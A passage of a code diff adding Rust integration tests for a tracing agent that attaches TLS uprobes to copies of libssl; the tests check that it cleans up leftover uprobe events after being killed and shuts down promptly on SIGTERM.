+    let directory = tempfile::tempdir()?;
+    let surroundings = Surroundings {
+        environment: &[("KEYTRAIL_SKIP_HOOKS", "multi,pmu")],
+        ..Surroundings::default()
+    };
+    let mut agent = Agent::start_as(directory.path(), &[], &surroundings)?;
+    let source = library("libssl.so.3")?;
+    let paths: Vec<PathBuf> = (0..FILES)
+        .map(|number| directory.path().join(format!("libssl-{number}.so")))
+        .collect();
+    for path in &paths {
+        fs::copy(&source, path)?;
+    }
+    let script = "import ctypes, sys
+for path in sys.argv[1:]:
+    ctypes.CDLL(path)
+sys.stdin.read()";
+    let _holder = Running(
+        Command::new("python3")
+            .args(["-c", script])
+            .args(&paths)
+            .stdin(Stdio::piped())
+            .spawn()?,
+    );
+    wait_for("probes in all of them", Duration::from_secs(120), || {
+        let log = agent.log_text();
+        let attached = log
+            .lines()
+            .filter(|line| line.contains("TLS probes attached") && line.contains("libssl-"))
+            .count();
+        Ok((attached == FILES).then_some(()))
+    })?;
+    let pid = agent.pid();
+    agent.kill()?;
+    let events = || fs::read_to_string("/sys/kernel/tracing/uprobe_events").unwrap_or_default();
+    let of_killed = format!("keytrail_{pid}_");
+    let left = events().matches(&of_killed).count();
+    ensure!(left > FILES, "it left its events: {left}");
+    let began = Instant::now();
+    let agent = Agent::start(directory.path(), &[])?;
+    println!("beside {left} leftovers: ready after {:?}", began.elapsed());
+    ensure!(began.elapsed() < Duration::from_secs(10));
+    wait_for(
+        "the leftovers are deleted",
+        Duration::from_secs(120),
+        || Ok((!events().contains(&of_killed)).then_some(())),
+    )?;
+    drop(agent);
+    Ok(())
+}
+
+/// SIGTERM ends it within bounds, with many files attached to, and leaves nothing behind.
+#[test]
+fn an_agent_with_many_files_ends_in_time_and_leaves_nothing() -> Result<()> {
+    const FILES: usize = 100;
+    let directory = tempfile::tempdir()?;
+    let mut agent = Agent::start(directory.path(), &[])?;
+    let source = library("libssl.so.3")?;
+    let mut holders = Vec::new();
+    let script = "import ctypes, sys
+for path in sys.argv[1:]:
+    ctypes.CDLL(path)
+print('held', flush=True)
+sys.stdin.read()";
+    let paths: Vec<PathBuf> = (0..FILES)
+        .map(|number| directory.path().join(format!("libssl-{number}.so")))
+        .collect();
+    for path in &paths {
+        fs::copy(&source, path)?;
+    }
+    holders.push(Running(
+        Command::new("python3")
+            .args(["-c", script])
+            .args(&paths)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .spawn()?,
+    ));
+    wait_for("probes in all of them", Duration::from_secs(60), || {
+        let attached = agent
+            .log_text()
+            .lines()
+            .filter(|line| line.contains("TLS probes attached") && line.contains("libssl-"))
+            .count();
+        Ok((attached == FILES).then_some(()))
+    })?;
+    let began = Instant::now();
+    let status = agent.stop()?;
+    println!("{FILES} files: ended after {:?}", began.elapsed());
+    ensure!(status.success() && began.elapsed() < Duration::from_secs(12));
+    let log = agent.log_text();
+    let left = fs::read_to_string("/sys/kernel/tracing/uprobe_events").unwrap_or_default();
+    ensure!(!left.contains("keytrail_"), "{left}\n{log}");
+    Ok(())
+}
